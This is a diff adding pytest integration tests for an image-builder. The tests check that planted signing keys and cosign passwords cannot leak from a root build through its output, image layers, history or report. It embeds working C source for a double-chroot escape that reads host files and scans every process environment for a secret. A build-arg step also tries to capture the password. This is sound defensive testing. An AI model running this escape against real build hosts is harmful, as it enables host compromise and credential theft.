@@ -1,0 +1,185 @@
+"""Attacks from a pull request's content alone, against a real build as root. Each plants a known
+secret where the old design let a RUN step reach it, and proves it appears nowhere: not in the
+build output, the image's layers, its history, or the report."""
+
+from __future__ import annotations
+
+import contextlib
+import gzip
+import json
+import shutil
+import subprocess
+import tempfile
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.integration.conftest import Cli, Registry, Run, secret, skopeo
+from tests.integration.test_build import config, context, github
+
+# The classic double-chroot escape, then a scan of every process's environment for the name of
+# the signing password. Under buildah's root chroot isolation it reads any host file and
+# image-builder's own environment.
+ESCAPE_C = r"""
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static void dump(const char *label, const char *path, const char *marker) {
+    static char buf[1 << 16];
+    int fd = open(path, O_RDONLY);
+    if (fd < 0) { if (!marker) printf("%s %s: %s\n", label, path, strerror(errno)); return; }
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    if (n < 0) n = 0;
+    buf[n] = 0;
+    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
+    if (!marker || strstr(buf, marker)) printf("%s %s: %s\n", label, path, buf);
+}
+
+int main(int argc, char **argv) {
+    if (argc < 3) return 2;
+    mkdir("/.escape", 0700);
+    if (chroot("/.escape") != 0) printf("chroot: %s\n", strerror(errno));
+    for (int i = 0; i < 64; i++) chdir("..");
+    if (chroot(".") != 0) printf("chroot out: %s\n", strerror(errno));
+    dump("FILE", argv[1], NULL);
+    DIR *proc = opendir("/proc");
+    struct dirent *entry;
+    int seen = 0;
+    while (proc && (entry = readdir(proc))) {
+        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
+        char path[300];
+        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
+        seen++;
+        dump("ENV", path, argv[2]);
+    }
+    printf("processes seen: %d\n", seen);
+    return 0;
+}
+"""
+
+
+@pytest.fixture
+def planted(tmp_path: Path) -> Iterator[tuple[Path, str]]:
+    """A root-only key file in a folder every account can reach: only its permissions guard it."""
+    folder = Path(tempfile.mkdtemp(prefix="ib-planted-"))
+    folder.chmod(0o755)
+    value = secret("planted-signing-key-9d41c2e7")
+    key = folder / "signing.key"
+    key.write_text(value + "\n")
+    key.chmod(0o600)
+    yield key, value
+    shutil.rmtree(folder)
+
+
+def static_escape(folder: Path) -> None:
+    source = folder / "escape.c"
+    source.write_text(ESCAPE_C)
+    done = subprocess.run(
+        ["gcc", "-static", "-O1", "-o", str(folder / "escape"), str(source)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 0, (
+        "gcc -static failed (scripts/setup installs gcc and libc6-dev):\n" + (done.stderr)
+    )
+    source.unlink()
+
+
+def everything_pushed(ref: str, into: Path) -> bytes:
+    """Every blob of the pushed image (layers decompressed), its config with the history, and
+    the manifest: the bytes a secret could hide in."""
+    done = skopeo("copy", "--src-tls-verify=false", f"docker://{ref}", f"dir:{into}")
+    assert done.returncode == 0, done.stderr
+    data = b""
+    for blob in sorted(into.iterdir()):
+        raw = blob.read_bytes()
+        with contextlib.suppress(OSError, EOFError, zlib.error):
+            raw = gzip.decompress(raw)
+        data += raw
+    return data
+
+
+def assert_nowhere(value: str, run: Run, pushed: bytes) -> None:
+    assert value not in run.stdout
+    assert value not in run.stderr
+    assert value.encode() not in pushed
+    assert value not in json.dumps(run.report)
+
+
+def test_a_run_step_that_escapes_its_root_reads_no_secret(
+    cli: Cli, registry: Registry, base_image: str, tmp_path: Path, planted: tuple[Path, str]
+) -> None:
+    key, key_value = planted
+    password = secret("planted-cosign-password-51f0a8")
+    ctx = context(
+        tmp_path,
+        f"FROM {base_image}\nCOPY escape /escape\n"
+        f"RUN /escape {key} COSIGN_PASSWORD= > /loot.txt 2>&1; cat /loot.txt\n",
+    )
+    static_escape(ctx)
+    cfg = config(tmp_path, f"registry: {registry.address}/prod\n")
+    run = cli(
+        "build", "--name", "team/escape", "--context", str(ctx), "--config", cfg,
+        "--tag", "loot", env=github("push", "push.new-branch.json", COSIGN_PASSWORD=password),
+    )  # fmt: skip
+    assert run.returncode == 0, run.stdout + run.stderr
+    assert run.report["status"] == "Succeeded"
+    # The step ran: it tried the key and saw no process outside its own build.
+    assert f"FILE {key}: Permission denied" in run.stderr
+    pushed = everything_pushed(f"{registry.address}/prod/team/escape:loot", tmp_path / "pushed")
+    assert f"FILE {key}: Permission denied".encode() in pushed
+    assert_nowhere(key_value, run, pushed)
+    assert_nowhere(password, run, pushed)
+
+
+def test_an_env_file_entry_never_takes_the_machines_value(
+    cli: Cli, registry: Registry, base_image: str, tmp_path: Path
+) -> None:
+    password = secret("planted-cosign-password-77aa03")
+    ctx = context(
+        tmp_path,
+        f'FROM {base_image}\nARG COSIGN_PASSWORD\nRUN echo "got $COSIGN_PASSWORD" > /arg.txt\n',
+        envs="COSIGN_PASSWORD=from-the-file\n",
+    )
+    cfg = config(tmp_path, f"registry: {registry.address}/prod\n")
+    run = cli(
+        "build", "--name", "team/envfile", "--context", str(ctx), "--config", cfg,
+        "--env-file", "envs", "--tag", "arg",
+        env=github("push", "push.new-branch.json", COSIGN_PASSWORD=password),
+    )  # fmt: skip
+    assert run.returncode == 0, run.stdout + run.stderr
+    pushed = everything_pushed(f"{registry.address}/prod/team/envfile:arg", tmp_path / "pushed")
+    assert b"got from-the-file" in pushed
+    assert_nowhere(password, run, pushed)
+
+
+def test_the_build_refuses_when_its_account_could_read_a_key(
+    cli: Cli, registry: Registry, tmp_path: Path, planted: tuple[Path, str]
+) -> None:
+    key, _ = planted
+    key.chmod(0o644)  # a key any account can read: the build account could take it
+    ctx = context(tmp_path, "FROM scratch\n")
+    cfg = config(
+        tmp_path,
+        f"registry: {registry.address}/prod\nsign-config:\n  enabled-signers:\n"
+        f"    '*': [release]\n  signers:\n  - name: release\n    type: cosign\n"
+        f"    config:\n      private-key: {key}\n",
+    )
+    run = cli(
+        "build", "--name", "team/refused", "--context", str(ctx), "--config", cfg,
+        env=github("push", "push.new-branch.json"),
+    )  # fmt: skip
+    assert run.returncode == 2, run.stdout + run.stderr
+    assert run.stderr.strip() == (
+        f"::error::the build account ib-sandbox could read the file {key}; make each readable by "
+        "root only (chown root, chmod 600, and no world-searchable folder leading to it)"
+    )
